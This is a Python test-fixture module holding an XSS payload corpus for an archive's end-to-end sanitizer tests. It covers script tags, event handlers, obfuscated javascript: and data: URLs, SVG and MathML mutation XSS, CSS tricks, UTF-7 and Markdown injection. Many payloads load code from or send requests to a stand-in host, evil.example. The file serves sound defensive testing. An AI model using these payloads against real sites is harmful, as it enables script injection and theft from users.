"""XSS payloads for the end-to-end tests: DOMPurify's corpus plus our own OWASP-class cases.

The DOMPurify payloads (../shared/corpora/xss, 223 of them) are sanitizer regression cases:
mutation XSS, namespace confusion, DOM clobbering. Our own cases cover the attack classes of
the OWASP XSS filter evasion cheat sheet, written for this archive: every class appears in
both contribution channels (a WordPress post's HTML, raw HTML in a Markdown article), and
the Markdown-only tricks (links, attribute lists, abbreviations) matter in the second.

An own payload that manages to run signals it the way the browser test listens: a dialog
(alert, confirm, prompt, print), the `window.__xss` marker, or a request to another host
(evil.example), which the browser test records and aborts. The few that run nothing by
themselves (a clobbered theme config, a cookie, look-alike text) are judged by what they
leave in the page.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from pathlib import Path

SHARED = Path(__file__).resolve().parents[2] / "shared"
DOMPURIFY = SHARED / "corpora" / "xss" / "dompurify-payloads.json"

# Documents for data: URLs, base64-encoded as attackers send them.
_B64_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()
_B64_SVG = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
).decode()
# "javascript:" spelled with decimal and hex character references, padded and unterminated.
_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:")
_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:")
_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:")

OWN: tuple[tuple[str, str], ...] = (
    # --- script elements -----------------------------------------------------------------
    ("script-plain", "<script>window.__xss = 'script-plain'</script>"),
    ("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-external", '<script src="http://evil.example/x.js"></script>'),
    ("script-protocol-relative", "<script src=//evil.example/x.js></script>"),
    ("script-non-alpha-attribute", '<SCRIPT/XSS SRC="http://evil.example/x.js"></SCRIPT>'),
    ("script-no-closing-tag", "<SCRIPT SRC=http://evil.example/x.js?< B >"),
    ("script-extra-open-bracket", "<<SCRIPT>alert(1);//<</SCRIPT>"),
    ("script-split-by-nesting", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-end-in-string", '<script>var a = "</script><script>alert(1)//";</script>'),
    ("script-module", "<script type=module>window.__xss = 'module'</script>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-after-title-end", "</TITLE><SCRIPT>alert(1)</SCRIPT>"),
    ("script-after-attribute-breakout", '<img alt="x"><script>alert(1)</script>">'),
    ("script-quote-breakout", '"><script>alert(1)</script>'),
    (
        "script-xhtml-namespace",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    ),
    # --- event handlers on many elements ---------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-backticks", "<img src=x onerror=alert`1`>"),
    ("img-onerror-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newlines", "<img\nsrc=x\nonerror=alert(1)>"),
    ("img-onerror-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("img-onerror-spaces", '<img src=x onerror  =  "alert(1)">'),
    ("img-onerror-js-escape", '<img src=x onerror="\\u0061lert(1)">'),
    ("img-malformed-quotes", '<IMG """><SCRIPT>alert(1)</SCRIPT>">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-onload-slash", "<svg/onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)><option>x</option></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
    ("div-contenteditable-autofocus", "<div contenteditable autofocus onfocus=alert(1)>x</div>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("video-poster", '<video poster="javascript:alert(1)"></video>'),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    (
        "div-onmouseover-overlay",
        '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
    ),
    ("a-onclick", '<a href="#" onclick="alert(1)">click</a>'),
    ("p-onpointerenter", "<p onpointerenter=alert(1)>hover</p>"),
    ("style-onload", "<style onload=alert(1)></style>"),
    ("object-onerror", "<object data=x onerror=alert(1)></object>"),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("image-onerror", "<image src=x onerror=alert(1)>"),
    ("table-onmouseover", "<table onmouseover=alert(1)><tr><td>x</td></tr></table>"),
    # --- javascript:, vbscript: and data: URLs, obfuscated ----------------------------------
    ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("href-javascript-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("href-javascript-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("href-javascript-cr-entity", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("href-javascript-raw-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("href-javascript-named-entities", '<a href="java&Tab;script&colon;alert(1)">x</a>'),
    ("href-javascript-newline-named", '<a href="java&NewLine;script&colon;alert(1)">x</a>'),
    ("href-javascript-decimal", f'<a href="{_DECIMAL}alert(1)">x</a>'),
    ("href-javascript-padded-decimal", f'<a href="{_PADDED}alert(1)">x</a>'),
    ("href-javascript-hex-no-semicolon", f'<a href="{_HEX}alert(1)">x</a>'),
    ("href-javascript-leading-controls", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("href-javascript-raw-controls", '<a href="\x01\x02java\x03script:alert(1)">x</a>'),
    ("href-javascript-line-separator", '<a href="&#x2028;javascript:alert(1)">x</a>'),
    ("href-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("href-javascript-backticks", "<a href=`javascript:alert(1)`>x</a>"),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("href-data-html", f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>'),
    ("href-data-uppercase", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    ("img-src-fromcharcode", "<img src=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img-src-vbscript", "<img src='vbscript:msgbox(1)'>"),
    ("img-dynsrc-lowsrc", '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'),
    ("img-src-unterminated", '<IMG SRC="`javascript:alert(1)"'),
    (
        "img-src-off-host",
        '<img src="http://evil.example/pixel.gif" srcset="//evil.example/2x.gif 2x">',
    ),
    ("blockquote-cite-javascript", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
    ("area-href-javascript", '<map name=m><area href="javascript:alert(1)" shape=default></map>'),
    # --- frames, objects, embeds -------------------------------------------------------------
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    (
        "iframe-srcdoc-entities",
        '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
    ),
    ("iframe-src-javascript", '<iframe src="javascript:parent.alert(1)"></iframe>'),
    ("iframe-src-data", f'<iframe src="data:text/html;base64,{_B64_SCRIPT}"></iframe>'),
    ("iframe-off-host", "<iframe src=http://evil.example/ <"),
    ("frameset-frame", '<frameset><frame src="javascript:parent.alert(1)"></frameset>'),
    ("object-data-javascript", '<object data="javascript:alert(1)"></object>'),
    ("object-data-html", f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>'),
    (
        "object-scriptlet",
        '<object type="text/x-scriptlet" data="http://evil.example/s.html"></object>',
    ),
    ("embed-src-javascript", '<embed src="javascript:alert(1)">'),
    ("embed-svg-data", f'<embed src="data:image/svg+xml;base64,{_B64_SVG}" type="image/svg+xml">'),
    ("embed-off-host", '<embed src="http://evil.example/x.swf">'),
    ("applet-code", '<applet code="javascript:alert(1)"></applet>'),
    # --- document-level elements: base, meta, link ---------------------------------------------
    ("base-href-javascript", '<base href="javascript:alert(1)//">'),
    ("base-href-off-host", '<base href="http://evil.example/">'),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    (
        "meta-refresh-data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{_B64_SCRIPT}">',
    ),
    ("meta-refresh-off-host", '<meta http-equiv="refresh" content="0;url=http://evil.example/">'),
    ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="xss=1">'),
    ("meta-charset-utf7", '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    ("link-import", '<link rel="import" href="http://evil.example/x.html">'),
    ("link-stylesheet-off-host", '<link rel="stylesheet" href="http://evil.example/x.css">'),
    ("link-stylesheet-javascript", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("link-prefetch", '<link rel="prefetch" href="//evil.example/">'),
    # --- style: expression(), url(javascript:), imports, bindings -------------------------------
    ("style-import", "<style>@import 'http://evil.example/x.css';</style>"),
    (
        "style-background-javascript",
        '<div style="background-image:url(javascript:alert(1))">x</div>',
    ),
    ("style-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("style-expression-escaped", '<div style="width:exp/**/ression(alert(1))">x</div>'),
    ("style-behavior", '<div style="behavior:url(http://evil.example/x.htc)">x</div>'),
    ("style-moz-binding", '<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>'),
    ("style-background-off-host", '<p style="background:url(//evil.example/x.png)">x</p>'),
    (
        "style-list-image",
        '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</li></ul>',
    ),
    ("style-css-escapes", '<div style="background:\\75\\72\\6C(//evil.example/e.png)">x</div>'),
    ("style-element-off-host", "<style>body{background:url(http://evil.example/b.png)}</style>"),
    # --- forms ------------------------------------------------------------------------------
    ("form-action-javascript", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">go</button></form>'),
    (
        "form-off-host",
        '<form action="http://evil.example/"><input name=q><input type=submit></form>',
    ),
    ("input-image-onerror", "<input type=image src=x onerror=alert(1)>"),
    ("isindex-action", "<isindex action=javascript:alert(1) type=submit value=go>"),
    ("isindex-image", "<isindex type=image src=1 onerror=alert(1)>"),
    # --- tables and legacy attributes -----------------------------------------------------------
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    (
        "td-background-off-host",
        '<table><tr><td background="http://evil.example/x.png">x</td></tr></table>',
    ),
    ("body-background", '<body background="javascript:alert(1)">'),
    # --- SVG and MathML -------------------------------------------------------------------------
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    ),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    (
        "svg-set-href",
        '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    ),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("svg-style-mxss", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-use-data", f'<svg><use href="data:image/svg+xml;base64,{_B64_SVG}#x"></use></svg>'),
    ("math-href", '<math href="javascript:alert(1)">CLICK</math>'),
    (
        "math-maction-xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
    ),
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
        "</table></mtext></math>",
    ),
    ("a-xlink-href", '<a xlink:href="javascript:alert(1)">x</a>'),
    # --- parser confusion: comments, CDATA, noscript, template ------------------------------------
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata-in-html", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("processing-instruction", '<? foo="><script>alert(1)</script>">'),
    (
        "noscript-attribute",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),
    ("template-script", "<template><script>alert(1)</script></template><p>after</p>"),
    ("svg-p-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    (
        "form-math-mxss",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)>"),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    # --- Unicode and UTF-7 ------------------------------------------------------------------------
    ("utf7-script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("unicode-escape-text", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("entity-encoded-markup", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double-encoded-markup", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    ("id-clobbers-theme-config", '<p id="__config">{"base": "http://evil.example/"}</p>'),
    # --- Markdown syntax (meaningful in contributed Markdown) ------------------------------------
    ("md-link-javascript", "[click](javascript:alert(1))"),
    ("md-link-javascript-entity", "[click](&#106;avascript:alert(1))"),
    ("md-link-javascript-angle", "[click](<javascript:alert(1)>)"),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    ("md-link-data", f"[click](data:text/html;base64,{_B64_SCRIPT})"),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-title-breakout", '![x](x.png "a\\" onerror=\\"alert(1)")'),
    ("md-link-title-breakout", '[x](https://example.org "a\\" onclick=\\"alert(1)")'),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-reference-javascript", "[click][r]\n\n[r]: javascript:alert(1)"),
    ("md-attr-list-handler", 'A paragraph.\n{: onclick="alert(1)" onmouseover="alert(1)" }'),
    ("md-attr-list-heading", "## Heading {: onclick=alert(1) }"),
    ("md-attr-list-href", '[x](https://example.org){: href="javascript:alert(1)" }'),
    ("md-heading-html", '## <img src="x" onerror="alert(1)"> heading'),
    ("md-abbr-html", "*[HTML]: <img src=x onerror=alert(1)>\n\nSome HTML here."),
    ("md-footnote-html", "Text[^1].\n\n[^1]: <img src=x onerror=alert(1)>"),
    ("md-in-html", '<div markdown="1">[x](javascript:alert(1))</div>'),
    ("md-fence-language", '```" onmouseover="alert(1)\ncode\n```'),
    ("md-code-span", "`<script>alert(1)</script>`"),
)


@dataclass(frozen=True)
class Payload:
    """One payload; `name` is unique and slug-safe, so it can name the article."""

    name: str
    html: str
    origin: str  # "dompurify" or "own"
    note: str = ""  # DOMPurify's own title for its case, when it has one


def own_payloads() -> list[Payload]:
    return [Payload(name, html, "own") for name, html in OWN]


def dompurify_payloads() -> list[Payload]:
    """The shared corpus, or [] when ../shared is absent (a user's fresh clone)."""
    if not DOMPURIFY.exists():
        return []
    items = json.loads(DOMPURIFY.read_text("utf-8"))
    return [
        Payload(f"dompurify-{number:03d}", item["payload"], "dompurify", item.get("title", ""))
        for number, item in enumerate(items, start=1)
    ]
